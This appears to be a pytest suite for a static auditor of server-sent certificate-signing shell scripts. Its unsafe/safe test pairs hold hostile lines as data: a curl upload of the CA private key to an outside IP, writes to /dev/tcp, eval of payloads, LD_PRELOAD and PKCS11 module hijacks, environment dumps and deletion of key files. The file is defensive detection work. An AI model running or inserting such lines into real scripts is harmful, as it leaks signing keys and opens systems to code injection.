"""The audit of server-sent scripts: the references audit clean, every hostile script is caught.

Corpus format (tests/hostile_scripts/<script>__<what>): a variant of one reference template
(placeholders @@FACTORY@@ / @@LOCAL_CA_CN@@ kept), with header comments after the shebang:

    # corpus: what the hostile change does
    # script: sign_tls_csr                  the reference it varies, so its name and profile
    # expect: audit:<finding-id>[@<level>]   caught statically (level defaults to high)
    # expect: runtime:<what>                 only the runner can catch it (timeout,
                                              output-limit, no-output, profile-mismatch,
                                              wrong-subject, wrong-issuer)
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from fioca import facts
from fioca.cli.audit_view import render_text
from fioca.pki import reference
from fioca.pki.audit import PROFILE_DAYS, AuditReport, Severity, audit_answer, audit_script

FACTORY = "acme"
LOCAL_CA_CN = "fio-abc"
CORPUS_DIR = Path(__file__).parent / "hostile_scripts"
RUNTIME_KINDS = {"timeout", "output-limit", "no-output", "profile-mismatch", "wrong-subject", "wrong-issuer"}


@pytest.fixture(scope="module")
def refs() -> dict[str, str]:
    return reference.rendered(factory=FACTORY, local_ca_cn=LOCAL_CA_CN)


def audit(name: str, text: str, refs: dict[str, str] | None = None):
    return audit_script(name, text, None if refs is None else refs[name])


def ids(script_audit, level: Severity = Severity.INFO) -> set[str]:
    return {f.id for f in script_audit.findings if f.severity >= level}


def command(script_audit, program: str, subcommand: str | None = None, **where):
    for c in script_audit.commands:
        if c.program == program and (subcommand is None or c.subcommand == subcommand):
            if all(getattr(c, k) == v for k, v in where.items()):
                return c
    raise AssertionError(f"no {program} {subcommand or ''} {where} in {[c.argv for c in script_audit.commands]}")


# --- the bundled reference scripts -------------------------------------------------------------


@pytest.mark.parametrize("name", facts.SCRIPT_NAMES)
def test_reference_script_audits_clean_and_matches(name: str, refs: dict[str, str]) -> None:
    result = audit(name, refs[name], refs)
    assert result.matches_reference and result.diff == ""
    above_info = [f for f in result.findings if f.severity > Severity.INFO]
    assert above_info == []
    assert result.size == len(refs[name].encode()) and len(result.sha256) == 64
    # The only notes are the expected HSM variables, each explained.
    assert ids(result) == {"reads-hsm-env"}
    assert all("HSM" in f.message for f in result.findings)


def test_reference_create_ca_openssl_details(refs: dict[str, str]) -> None:
    result = audit("create_ca", refs["create_ca"], refs)
    keygen = command(result, "openssl", "ecparam")
    assert (keygen.key_type, keygen.curve) == ("ec", "prime256v1")
    root = command(result, "openssl", "req", line=35)
    assert "-x509" in root.argv and root.days == 7300 and root.digest == "sha256"
    assert root.subject == "CN=Factory-CA, OU=acme"
    assert "extendedKeyUsage = critical, clientAuth, serverAuth" in root.extensions
    assert "basicConstraints = CA:TRUE" in root.extensions and "keyUsage = keyCertSign, cRLSign" in root.extensions
    # The HSM branch makes the same certificate with the key on the token.
    hsm_root = command(result, "openssl", "req", line=30)
    assert hsm_root.extensions == root.extensions and hsm_root.days == 7300
    assert result.writes == ["ca.cnf", "factory_ca.pem", "factory_ca.key"]
    assert result.deletes == ["ca.cnf"]


def test_reference_sign_and_device_ca_details(refs: dict[str, str]) -> None:
    tls = audit("sign_tls_csr", refs["sign_tls_csr"], refs)
    signing = command(tls, "openssl", "x509", line=34)
    assert signing.days == 3650 and signing.digest == "sha256"
    assert signing.extensions == [
        "keyUsage = critical, digitalSignature",
        "extendedKeyUsage = critical, serverAuth",
        "subjectAltName = $dns",
        "authorityKeyIdentifier = keyid, issuer",
    ]
    assert "$1" in tls.reads and "factory_ca.key" in tls.reads and "factory_ca.srl" in tls.writes
    # The DNS names come from a pipeline inside $(...): its commands are listed too.
    assert {"grep", "tr", "sed"} <= {c.program for c in tls.commands if c.line == 13}

    device = audit("create_device_ca", refs["create_device_ca"], refs)
    csr = command(device, "openssl", "req")
    assert csr.subject == "CN=fio-abc, OU=acme"
    ca = command(device, "openssl", "x509", line=37)
    assert ca.extensions == ["keyUsage = critical, keyCertSign", "basicConstraints = critical, CA:TRUE, pathlen:0"]
    assert {"$1", "$2"} <= set(device.writes)


def test_audit_answer_reads_the_four_scripts(refs: dict[str, str]) -> None:
    answer = {"tls-csr": "-----BEGIN CERTIFICATE REQUEST-----", **refs}
    report = audit_answer(answer, refs)
    assert [s.name for s in report.scripts] == ["create_ca", "sign_tls_csr", "sign_ca_csr", "create_device_ca"]
    assert report.failing(Severity.LOW) == [] and report.max_severity == Severity.INFO
    # A modern answer carries no scripts: nothing to audit, nothing failing.
    assert audit_answer({"tls-csr": "x", "ca-csr": "y"}, refs).scripts == []


def test_audit_answer_rejects_a_script_that_is_not_text(refs: dict[str, str]) -> None:
    report = audit_answer({**refs, "sign_ca_csr": {"run": "curl"}}, refs)
    bad = next(s for s in report.scripts if s.name == "sign_ca_csr")
    assert bad.findings[0].id == "unparsable" and bad.findings[0].severity == Severity.HIGH
    assert [sf.script for sf in report.failing(Severity.HIGH)] == ["sign_ca_csr"]


def test_audit_answer_compares_with_the_rendered_reference_of_the_factory(refs: dict[str, str]) -> None:
    other = reference.rendered(factory="other", local_ca_cn=LOCAL_CA_CN)
    report = audit_answer(other, refs)
    create_ca = report.scripts[0]
    assert not create_ca.matches_reference
    assert "-OU = acme" in create_ca.diff and "+OU = other" in create_ca.diff
    # Differing is reported, not condemned.
    assert report.failing(Severity.LOW) == []


# --- a reworded but harmless script -----------------------------------------------------------

REWORDED_SIGN_TLS = """#!/bin/sh
# Sign the gateway CSR (reworded by another server, same effect).
set -eu

OPENSSL=openssl
request="$1"
extensions=gateway-ext.cnf

names=$($OPENSSL req -in "$request" -noout -text | grep -o 'DNS:[^,]*' | paste -sd, -)
[ -n "$names" ] || { echo "no DNS names in $request" >&2; exit 1; }

cleanup() {
	rm -f "$extensions"
}
trap cleanup EXIT

cat > "$extensions" <<'END'
keyUsage=critical,digitalSignature
extendedKeyUsage=critical,serverAuth
authorityKeyIdentifier=keyid
END
printf 'subjectAltName=%s\\n' "$names" >> "$extensions"

for attempt in 1; do
	$OPENSSL x509 -req -days 3650 -sha256 -in "$request" \\
		-CA factory_ca.pem -CAkey factory_ca.key -CAcreateserial \\
		-extfile "$extensions"
done
"""


def test_reworded_harmless_script_has_no_high_finding(refs: dict[str, str]) -> None:
    result = audit("sign_tls_csr", REWORDED_SIGN_TLS, refs)
    assert not result.matches_reference and result.diff.startswith("--- reference/sign_tls_csr\n+++ server/sign_tls_csr\n")
    assert ids(result, Severity.MEDIUM) == set(), result.findings
    signing = command(result, "$OPENSSL", "x509")
    assert signing.days == 3650 and signing.digest == "sha256"
    assert "extendedKeyUsage = critical,serverAuth" in signing.extensions
    assert "subjectAltName = $names" in signing.extensions  # from the printf >> append
    assert result.deletes == ["gateway-ext.cnf"]


def test_reworded_script_negative_twin_rm_of_a_foreign_file_in_cleanup(refs: dict[str, str]) -> None:
    hostile = REWORDED_SIGN_TLS.replace('rm -f "$extensions"', 'rm -f "$extensions" factory_ca.key')
    result = audit("sign_tls_csr", hostile, refs)
    assert [f.message for f in result.findings if f.id == "deletes-foreign-file"] == [
        "deletes factory_ca.key, a file the script did not create"
    ]


# --- the hostile corpus -----------------------------------------------------------------------


@dataclass
class CorpusEntry:
    path: Path
    script: str
    what: str
    audit_expects: list[tuple[str, Severity]]
    runtime_expects: list[str]

    def text(self) -> str:
        return reference.render(self.path.read_text(encoding="utf-8"), factory=FACTORY, local_ca_cn=LOCAL_CA_CN)


def load_corpus() -> list[CorpusEntry]:
    entries = []
    for path in sorted(CORPUS_DIR.iterdir()):
        headers = [line.split(":", 1) for line in path.read_text(encoding="utf-8").splitlines()[:8] if line.startswith("# ")]
        fields: dict[str, list[str]] = {}
        for key, value in headers:
            fields.setdefault(key[2:].strip(), []).append(value.strip())
        audits, runtimes = [], []
        for expect in fields.get("expect", []):
            kind, _, rest = expect.partition(":")
            if kind == "audit":
                finding_id, _, level = rest.partition("@")
                audits.append((finding_id, Severity.parse(level or "high")))
            else:
                assert kind == "runtime", f"{path.name}: bad expect line {expect!r}"
                runtimes.append(rest)
        entries.append(CorpusEntry(path, fields["script"][0], fields["corpus"][0], audits, runtimes))
    return entries


CORPUS = load_corpus()


def test_corpus_is_large_and_well_formed() -> None:
    assert len(CORPUS) >= 20
    for entry in CORPUS:
        assert entry.script in facts.SCRIPT_NAMES, entry.path.name
        assert entry.audit_expects or entry.runtime_expects, entry.path.name
        assert set(entry.runtime_expects) <= RUNTIME_KINDS, entry.path.name
        # A realistic variant of its reference, not a one-liner.
        text = entry.text()
        assert text.startswith("#!/bin/sh") and "openssl" in text and len(text.splitlines()) > 20
    covered = {fid for e in CORPUS for fid, _ in e.audit_expects} | {r for e in CORPUS for r in e.runtime_expects}
    assert {"network-access", "outside-workdir", "reads-secret-env", "deletes-foreign-file", "eval-data",
            "reads-environment", "signs-with-own-key"} | RUNTIME_KINDS <= covered  # fmt: skip


@pytest.mark.parametrize("entry", [e for e in CORPUS if e.audit_expects], ids=lambda e: e.path.name)
def test_corpus_entry_is_caught_by_the_audit(entry: CorpusEntry, refs: dict[str, str]) -> None:
    result = audit(entry.script, entry.text(), refs)
    found = {(f.id, f.severity) for f in result.findings}
    for expected in entry.audit_expects:
        assert expected in found, f"{entry.path.name}: {expected} not in {sorted(found)}"
        # Negative twin: the reference of the same script does not have it.
        clean = audit(entry.script, refs[entry.script], refs)
        assert expected not in {(f.id, f.severity) for f in clean.findings}
    assert not result.matches_reference and result.diff


@pytest.mark.parametrize("entry", [e for e in CORPUS if e.runtime_expects], ids=lambda e: e.path.name)
def test_corpus_runtime_entry_parses(entry: CorpusEntry, refs: dict[str, str]) -> None:
    result = audit(entry.script, entry.text(), refs)
    assert "unparsable" not in ids(result)
    assert any(c.program == "openssl" for c in result.commands)


def test_corpus_audit_entries_block_create_at_their_level(refs: dict[str, str]) -> None:
    for entry in CORPUS:
        report = AuditReport([audit(entry.script, entry.text(), refs)])
        for _finding_id, level in entry.audit_expects:
            assert report.failing(level), entry.path.name


# --- parser behaviour, each with its twin -----------------------------------------------------

SHEBANG = "#!/bin/sh -e\n"


@pytest.mark.parametrize(
    ("unsafe", "safe", "finding_id"),
    [
        # A quoted here-document delimiter does not expand its body.
        ("cat > x.cnf <<EOF\nv = $FIOCTL_TOKEN\nEOF\n", "cat > x.cnf <<'EOF'\nv = $FIOCTL_TOKEN\nEOF\n", "reads-secret-env"),
        # Single quotes do not expand.
        ('echo "$OSF_TOKEN"\n', "echo '$OSF_TOKEN'\n", "reads-secret-env"),
        # rm of what the script wrote is fine; of anything else, not.
        ("rm -f out.pem\n", "touch out.pem\nrm -f out.pem\n", "deletes-foreign-file"),
        ("rm -rf work\n", "mkdir work\nrm -rf work\n", "deletes-foreign-file"),
        # Backslash continuations still belong to the command.
        ("openssl x509 -req -in a.csr \\\n  -days 9999 -sha256\n", "openssl x509 -req -in a.csr \\\n  -days 3650 -sha256\n", "validity-exceeds-profile"),
        ("openssl req -new -newkey rsa:1024 -keyout k -out r\n", "openssl req -new -newkey rsa:2048 -keyout k -out r\n", "weak-crypto"),
        ("openssl x509 -req -in a.csr -days 10 -sha1\n", "openssl x509 -req -in a.csr -days 10 -sha256\n", "weak-crypto"),
        ("openssl genrsa -out k.pem 1024\n", "openssl genrsa -out k.pem 4096\n", "weak-crypto"),
        (
            "cat > c.cnf <<EOF\n[req]\ndefault_md = md5\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n",
            "cat > c.cnf <<EOF\n[req]\ndefault_md = sha256\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n",
            "weak-crypto",
        ),
        ("echo `curl -s https://example.net`\n", "echo `date`\n", "network-access"),
        ("x=${y:-$(wget -qO- https://example.net)}\n", "x=${y:-$(date)}\n", "network-access"),
        ("cat factory_ca.pem > /dev/tcp/192.0.2.1/80\n", "cat factory_ca.pem > /dev/null\n", "network-access"),
        ("cp a.pem /etc/ssl/a.pem\n", "cp a.pem b.pem\n", "absolute-path"),
        ("cp a.pem ~/a.pem\n", "cp a.pem ./a.pem\n", "outside-workdir"),
        ("cat a.pem > ../a.pem\n", "cat a.pem > a..pem\n", "outside-workdir"),
        ("eval \"$cmd\"\n", "echo \"$cmd\"\n", "eval-data"),
        ("printf x | sh\n", "printf x | cat\n", "eval-data"),
        ("sh -c \"$payload\"\n", "sh -c 'echo hi'\n", "eval-data"),
        ("chmod 777 a.pem\n", "chmod 400 a.pem\n", "privilege-change"),
        ("printenv\n", "printenv HSM_MODULE\n", "reads-environment"),
        ("set\n", "set -u\n", "reads-environment"),
        ("cat /proc/self/environ\n", "cat proc/self/environ\n", "reads-environment"),
        ("cat factory_ca.key\n", "cat factory_ca.pem\n", "reads-private-key"),
        ("trap 'rm -f factory_ca.key' EXIT\n", "trap 'rm -f t.pem' EXIT\ntouch t.pem\n", "deletes-foreign-file"),
    ],
)
def test_finding_and_its_twin(unsafe: str, safe: str, finding_id: str) -> None:
    assert finding_id in ids(audit("sign_tls_csr", SHEBANG + unsafe), Severity.HIGH)
    assert finding_id not in ids(audit("sign_tls_csr", SHEBANG + safe), Severity.HIGH)


def test_dollar_hash_is_not_a_comment() -> None:
    result = audit("sign_ca_csr", SHEBANG + 'if [ $# -ne 1 ] ; then curl -s https://x ; fi\n')
    assert "network-access" in ids(result)


def test_hsm_variables_are_info_but_expanding_the_pin_is_high() -> None:
    named = audit("create_ca", SHEBANG + 'pkcs11-tool --module "$HSM_MODULE" --pin env:HSM_PIN --login --list-objects\n')
    assert {(f.id, f.severity) for f in named.findings} == {("reads-hsm-env", Severity.INFO)}
    expanded = audit("create_ca", SHEBANG + 'pkcs11-tool --module "$HSM_MODULE" --pin "$HSM_PIN" --login --list-objects\n')
    assert ("reads-secret-env", Severity.HIGH) in {(f.id, f.severity) for f in expanded.findings}


@pytest.mark.parametrize(
    "line",
    ['export PKCS11_MODULE_PATH="$HSM_MODULE"\n', 'PKCS11_MODULE_PATH="${HSM_MODULE}" openssl req -noout -in "$1"\n'],
)
def test_the_engine_may_load_the_users_module(line: str) -> None:
    result = audit("sign_ca_csr", SHEBANG + line)
    assert {(f.id, f.severity) for f in result.findings} == {("reads-hsm-env", Severity.INFO)}


@pytest.mark.parametrize(
    "line",
    [
        "export PKCS11_MODULE_PATH=/tmp/evil.so\n",
        'PKCS11_MODULE_PATH="$HOME/x.so" openssl req -noout -in "$1"\n',
        "LD_PRELOAD=./x.so openssl req -noout -in \"$1\"\n",
        "export OPENSSL_CONF=./evil.cnf\n",
    ],
)
def test_setting_a_code_loading_variable_is_high(line: str) -> None:
    result = audit("sign_ca_csr", SHEBANG + line)
    assert ("eval-data", Severity.HIGH) in {(f.id, f.severity) for f in result.findings}


def test_errexit_from_shebang_or_set_and_its_twins() -> None:
    body = "openssl req -noout -verify -in \"$1\"\n"
    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh -e\n" + body))
    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh\nset -e\n" + body))
    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh\nset -o errexit\n" + body))
    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh\n" + body))
    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh\n" + body + "set -e\n"))
    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh -e\nset +e\n" + body))
    assert "not-a-shell-script" in ids(audit("sign_ca_csr", "#!/usr/bin/python3\nprint(1)\n"), Severity.HIGH)


@pytest.mark.parametrize("name", sorted(PROFILE_DAYS))
def test_validity_limit_per_script(name: str) -> None:
    limit = PROFILE_DAYS[name]
    at_limit = audit(name, SHEBANG + f"openssl x509 -req -in r.csr -days {limit} -sha256\n")
    beyond = audit(name, SHEBANG + f"openssl x509 -req -in r.csr -days {limit + 1} -sha256\n")
    assert "validity-exceeds-profile" not in ids(at_limit)
    assert [f.severity for f in beyond.findings if f.id == "validity-exceeds-profile"] == [Severity.HIGH]


def test_validity_computed_at_run_time_is_flagged() -> None:
    result = audit("sign_tls_csr", SHEBANG + "openssl x509 -req -in r.csr -days \"$DAYS\" -sha256\n")
    assert ("unresolved-value", Severity.MEDIUM) in {(f.id, f.severity) for f in result.findings}


@pytest.mark.parametrize(
    "broken",
    ['echo "never closed\n', "echo 'never closed\n", "x=$(date\n", "cat <<EOF\nno end\n", "echo `date\n"],
)
def test_what_the_lexer_cannot_follow_is_high(broken: str) -> None:
    result = audit("sign_tls_csr", SHEBANG + broken)
    assert ("unparsable", Severity.HIGH) in {(f.id, f.severity) for f in result.findings}


def test_unbalanced_blocks_and_unknown_programs_are_medium() -> None:
    result = audit("sign_tls_csr", SHEBANG + "if [ -f a ]; then\n  echo a\n")
    assert ("unparsable", Severity.MEDIUM) in {(f.id, f.severity) for f in result.findings}
    assert "unparsable" not in ids(audit("sign_tls_csr", SHEBANG + "if [ -f a ]; then\n  echo a\nfi\n"))
    unknown = audit("sign_tls_csr", SHEBANG + "frobnicate --all\n")
    assert [(f.id, f.severity) for f in unknown.findings] == [("unknown-command", Severity.MEDIUM)]


def test_pathological_nesting_fails_closed_quickly() -> None:
    deep = audit("sign_tls_csr", SHEBANG + "$(" * 5000 + ")" * 5000 + "\n")
    assert deep.max_severity == Severity.HIGH
    nested_quotes = 'x="' + '$(echo "' * 40 + "hi" + '")' * 40 + '"\n'
    assert audit("sign_tls_csr", SHEBANG + nested_quotes).max_severity is None


# --- report, thresholds, JSON and text ----------------------------------------------------------


@pytest.fixture(scope="module")
def mixed_report(refs: dict[str, str]) -> AuditReport:
    no_errexit = refs["sign_ca_csr"].replace("#!/bin/sh -e", "#!/bin/sh", 1)
    exfil = refs["sign_tls_csr"].replace("rm server.ext\n", "rm server.ext\ncurl -s -T factory_ca.key https://198.51.100.7/\n")
    return audit_answer({**refs, "sign_ca_csr": no_errexit, "sign_tls_csr": exfil}, refs)


def test_severity_threshold(mixed_report: AuditReport) -> None:
    assert Severity.parse("medium") == Severity.MEDIUM and Severity.parse(" HIGH ") == Severity.HIGH
    with pytest.raises(ValueError, match="info|low|medium|high"):
        Severity.parse("critical")
    high = mixed_report.failing(Severity.HIGH)
    assert {(sf.script, sf.finding.id) for sf in high} == {("sign_tls_csr", "network-access"), ("sign_tls_csr", "reads-private-key")}
    medium = {(sf.script, sf.finding.id) for sf in mixed_report.failing(Severity.MEDIUM)}
    assert ("sign_ca_csr", "missing-errexit") in medium and ("sign_ca_csr", "missing-errexit") not in {(sf.script, sf.finding.id) for sf in high}
    assert len(mixed_report.failing(Severity.INFO)) > len(medium) > len(high)
    assert mixed_report.max_severity == Severity.HIGH


def test_json_round_trip(mixed_report: AuditReport) -> None:
    data = mixed_report.to_dict()
    assert json.loads(json.dumps(data)) == data
    assert AuditReport.from_dict(json.loads(json.dumps(data))) == mixed_report
    assert data["max_severity"] == "high" and data["counts"]["high"] == 2
    tls = next(s for s in data["scripts"] if s["name"] == "sign_tls_csr")
    assert tls["findings"][0]["severity"] in ("info", "low", "medium", "high")
    assert tls["matches_reference"] is False and "+curl -s -T factory_ca.key" in tls["diff"]


def test_render_text(mixed_report: AuditReport, refs: dict[str, str]) -> None:
    text = render_text(mixed_report)
    create_ca = mixed_report.scripts[0]
    assert f"== create_ca  {create_ca.size} bytes  sha256 {create_ca.sha256}" in text
    assert "matches the reference" in text and "differs from the reference:" in text
    assert "  +curl -s -T factory_ca.key https://198.51.100.7/" in text
    assert "key ec prime256v1" in text and "days 7300, digest sha256" in text
    assert "ext extendedKeyUsage = critical, clientAuth, serverAuth" in text
    network_line = next(line for line in text.splitlines() if "network-access" in line)
    assert network_line.strip().startswith("HIGH  line ") and ": network-access: curl reaches the network" in network_line
    assert "MEDIUM  line 1: missing-errexit:" in text
    counts = mixed_report.counts()
    assert text.rstrip("\n").splitlines()[-1] == (
        f"4 scripts audited: {counts[Severity.HIGH]} high, {counts[Severity.MEDIUM]} medium, "
        f"{counts[Severity.LOW]} low, {counts[Severity.INFO]} info"
    )
    clean = render_text(audit_answer(refs, refs))
    assert "differs from the reference" not in clean and "0 high, 0 medium, 0 low" in clean
